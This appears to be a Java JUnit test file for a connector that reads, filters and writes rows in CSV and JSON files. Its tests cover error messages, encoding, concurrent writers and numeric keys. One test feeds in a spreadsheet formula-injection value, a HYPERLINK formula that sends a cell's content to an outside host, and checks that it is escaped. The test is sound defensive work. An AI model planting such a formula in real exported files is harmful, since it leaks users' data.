package io.tillflow.connectors.data.tables;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tillflow.connectors.data.files.Checksum;
import io.tillflow.connectors.data.files.Expected;
import io.tillflow.connectors.data.files.FilePath;
import io.tillflow.connectors.data.files.local.LocalFiles;
import io.tillflow.connectors.data.tables.TableResult.Done;
import io.tillflow.connectors.data.tables.TableResult.Malformed;
import io.tillflow.connectors.data.tables.TableResult.NotFound;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class TablesTest {
    private static final FilePath ORDERS = new FilePath("reports/orders.csv");
    private static final FilePath DEAR = new FilePath("reports/dear.json");

    @TempDir
    private Path folder;

    private LocalFiles store;
    private Tables tables;

    @BeforeEach
    void tables() {
        store = new LocalFiles(folder);
        tables = new Tables(store, new ForgetfulPuts());
    }

    @Test
    void readsChosenColumnsOfTheRowsThatMatchAndCountsThemAll() {
        given(
                ORDERS,
                "\uFEFFnumber,sku,total,note\r\nU-1,007,12.50,\"a, b\"\r\nU-2,008,99,\r\nU-3,009,120,\"said \"\"no\"\"\"\r\n");
        TableResult.Read read = done(tables.read(ORDERS, new Choice(List.of("sku", "total"), "total >= 99"), 1));
        assertThat(read.rows()).containsExactly(row("sku", "008", "total", 99L));
        assertThat(read.matched()).isEqualTo(2);
        assertThat(read.total()).isEqualTo(3);
        assertThat(read.checksum()).isEqualTo(checksum(ORDERS));
        assertThat(done(tables.read(ORDERS, new Choice(List.of("total"), "note = \"a, b\""), 5))
                        .rows())
                .containsExactly(row("total", new BigDecimal("12.50")));
        assertThat(done(tables.read(ORDERS, new Choice(List.of("number"), "row.note = null"), 5))
                        .rows())
                .containsExactly(row("number", "U-2"));
    }

    @Test
    void writesWhatIsChosenAsAnotherDocumentTheSameHoweverOften() {
        given(ORDERS, "number,total\nU-1,12.50\nU-2,99\n");
        TableResult.Written once = done(tables.write(ORDERS, DEAR, new Choice(List.of(), "total > 50")));
        TableResult.Written again = done(tables.write(ORDERS, DEAR, new Choice(List.of(), "total > 50")));
        assertThat(content(DEAR)).isEqualTo("[\n{\"number\":\"U-2\",\"total\":99}\n]\n");
        assertThat(again)
                .isEqualTo(once)
                .isEqualTo(new TableResult.Written(1, content(DEAR).length(), checksum(DEAR)));
        done(tables.write(DEAR, ORDERS, Choice.ALL));
        assertThat(content(ORDERS)).isEqualTo("number,total\r\nU-2,99\r\n");
    }

    @ParameterizedTest
    @CsvSource({"orders.csv", "orders.json"})
    void aRowIsThereOnceForItsKey(String name) {
        FilePath path = new FilePath(name);
        assertThat(done(tables.put(path, row("number", "U-1", "total", 5), "number", false, "job 1"))
                        .added())
                .isTrue();
        assertThat(done(tables.put(path, row("number", "U-1", "total", 7), "number", false, "job 1"))
                        .added())
                .isFalse();
        assertThat(done(tables.put(path, row("number", "U-2", "country", "DE"), "number", false, "job 1"))
                        .rows())
                .isEqualTo(2);
        assertThat(done(tables.read(path, new Choice(List.of("number", "total", "country"), ""), 9))
                        .rows())
                .hasToString("[{number=U-1, total=5, country=null}, {number=U-2, total=null, country=DE}]");
        assertThat(done(tables.put(path, row("number", "U-1", "total", 9), "number", true, "job 1"))
                        .added())
                .isFalse();
        assertThat(done(tables.read(path, new Choice(List.of("total"), "number = \"U-1\""), 9))
                        .rows())
                .hasToString("[{total=9}]");
    }

    @Test
    void manyWhoWriteAtTheSameTimeLoseNoRow() throws Exception {
        try (ExecutorService writers = Executors.newFixedThreadPool(4)) {
            List<Callable<TableResult<TableResult.Put>>> puts = IntStream.range(0, 24)
                    .<Callable<TableResult<TableResult.Put>>>mapToObj(i ->
                            // each of its own service, as in two processes
                            () -> new Tables(store, new ForgetfulPuts())
                                    .put(ORDERS, row("number", "U-" + i % 12), "number", false, "job 1"))
                    .toList();
            for (var put : writers.invokeAll(puts)) {
                done(put.get());
            }
        }
        assertThat(done(tables.read(ORDERS, Choice.ALL, 100)).total()).isEqualTo(12);
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '`',
            value = {
                "`a,b\n1,2\n3\n`, `line 3, column 2 ('b'): the cell is missing; the first line names 2 columns, this one has 1`",
                "`a,b\n1,2,3\n`, `line 2, column 3: a cell too many`",
                "`a,a\n`, `line 1, column 2: 'a' is there twice`",
                "`a,\n`, `line 1, column 2: it has no name`",
                "``, `it is empty; its first line should name the columns`",
                "`a\n\"never closed\n`, `it is no CSV: `"
            })
    void aMalformedCsvIsNamedByLineAndColumn(String csv, String reason) {
        given(ORDERS, csv.replace("\\n", "\n"));
        assertThat(tables.read(ORDERS, Choice.ALL, 5))
                .isInstanceOfSatisfying(
                        Malformed.class,
                        bad -> assertThat(bad.reason())
                                .startsWith("reports/orders.csv: ")
                                .contains(reason));
    }

    @Test
    void anotherEncodingIsNamedByLineAndColumnAndNeverGuessed() {
        store.write(ORDERS, "number,town\nU-1,Köln\n".getBytes(StandardCharsets.ISO_8859_1), new Expected.Anything());
        assertThat(tables.read(ORDERS, Choice.ALL, 5))
                .isEqualTo(new Malformed<>(
                        "reports/orders.csv: line 2, column 6: the byte 0xF6 is no UTF-8; save the document as UTF-8"));
    }

    @Test
    void aMalformedJsonIsNamedByLineAndColumn() {
        given(DEAR, "[\n{\"number\": \"U-1\"},\n{\"number\" 2}]");
        assertThat(tables.read(DEAR, Choice.ALL, 5))
                .isInstanceOfSatisfying(
                        Malformed.class, bad -> assertThat(bad.reason()).contains("line 3, column "));
        given(DEAR, "{\"number\": 1}");
        assertThat(tables.read(DEAR, Choice.ALL, 5))
                .isInstanceOfSatisfying(
                        Malformed.class, bad -> assertThat(bad.reason()).contains("a JSON array of objects"));
        given(DEAR, "[1]");
        assertThat(tables.write(DEAR, ORDERS, Choice.ALL))
                .isInstanceOfSatisfying(
                        Malformed.class, bad -> assertThat(bad.reason()).contains("row 1: expected a JSON object"));
    }

    @Test
    void saysWhatIsMissing() {
        assertThat(tables.read(ORDERS, Choice.ALL, 5))
                .isEqualTo(new NotFound<>("there is no document reports/orders.csv"));
        assertThat(tables.write(ORDERS, DEAR, Choice.ALL)).isInstanceOf(NotFound.class);
        given(ORDERS, "number\nU-1\n");
        assertThat(tables.read(ORDERS, new Choice(List.of("total"), ""), 5))
                .isEqualTo(new Malformed<>("reports/orders.csv: there is no column 'total'; the columns are [number]"));
        assertThat(tables.put(ORDERS, row("id", 1), "id", false, "job 1")).isInstanceOf(Malformed.class);
        assertThatThrownBy(() -> tables.put(ORDERS, row("number", ""), "number", false, "job 1"))
                .hasMessageContaining("a value for its key column 'number'");
        assertThatThrownBy(() -> tables.read(ORDERS, new Choice(List.of(), "total >"), 5))
                .hasMessageContaining("expected the filter to be FEEL");
        assertThatThrownBy(() -> tables.read(new FilePath("reports/orders.xlsx"), Choice.ALL, 5))
                .hasMessageContaining("to end with .csv or .json");
    }

    @Test
    void whatSomebodyTypedIsNoFormulaToATableProgramAndComesBackAsItWas() {
        List<String> texts = List.of("=HYPERLINK(\"http://x/?\"&A1)", "@sum", "+49 30 1", "'=1", "'", "-5", "it's");
        for (String text : texts) {
            done(tables.put(ORDERS, row("number", text, "left", -1), "number", false, "job 1"));
        }
        assertThat(content(ORDERS).lines())
                .containsExactly(
                        "number,left",
                        "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-1",
                        "'@sum,-1",
                        "'+49 30 1,-1",
                        "''=1,-1",
                        "',-1",
                        "-5,-1",
                        "it's,-1");
        assertThat(done(tables.put(ORDERS, row("number", "@sum", "left", 2), "number", true, "job 1"))
                        .rows())
                .isEqualTo(texts.size());
        assertThat(done(tables.read(ORDERS, new Choice(List.of("number"), "left = -1"), 9))
                        .rows())
                .extracting(row -> String.valueOf(row.get("number")))
                .containsExactly(texts.get(0), texts.get(2), texts.get(3), "'", "-5", "it's");
    }

    @ParameterizedTest
    @CsvSource({"orders.csv", "orders.json"})
    void smallAndLargeNumbersAreFoundAsNumbersAndAsKeys(String name) {
        FilePath path = new FilePath(name);
        done(tables.put(path, row("id", 1.0E7, "rate", 0.0005, "sum", 12_345_678.5), "id", false, "job 1"));
        assertThat(done(tables.put(path, row("id", 1.0E7, "rate", 1), "id", false, "job 1"))
                        .added())
                .isFalse();
        assertThat(done(tables.read(path, new Choice(List.of(), "rate < 0.001 and sum > 12345678"), 9))
                        .matched())
                .isEqualTo(1);
    }

    @Test
    void tooMuchForAVariableIsRefused() {
        given(ORDERS, "text\n" + ("x".repeat(5_000) + "\n").repeat(10));
        assertThatThrownBy(() -> tables.read(ORDERS, Choice.ALL, 10))
                .hasMessageContaining("ask for fewer rows or columns");
        assertThat(done(tables.read(ORDERS, Choice.ALL, 2)).rows()).hasSize(2);
    }

    private void given(FilePath path, String content) {
        store.write(path, content.getBytes(StandardCharsets.UTF_8), new Expected.Anything());
    }

    private String content(FilePath path) {
        return new String(store.read(path, 10_000).orElseThrow().content(), StandardCharsets.UTF_8);
    }

    private String checksum(FilePath path) {
        return Checksum.of(store.read(path, 10_000).orElseThrow().content());
    }

    private static Map<String, @Nullable Object> row(Object... pairs) {
        Map<String, @Nullable Object> row = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            row.put(String.valueOf(pairs[i]), pairs[i + 1]);
        }
        return row;
    }

    private static <T> T done(TableResult<T> result) {
        assertThat(result).isInstanceOf(Done.class);
        return ((Done<T>) result).what();
    }
}
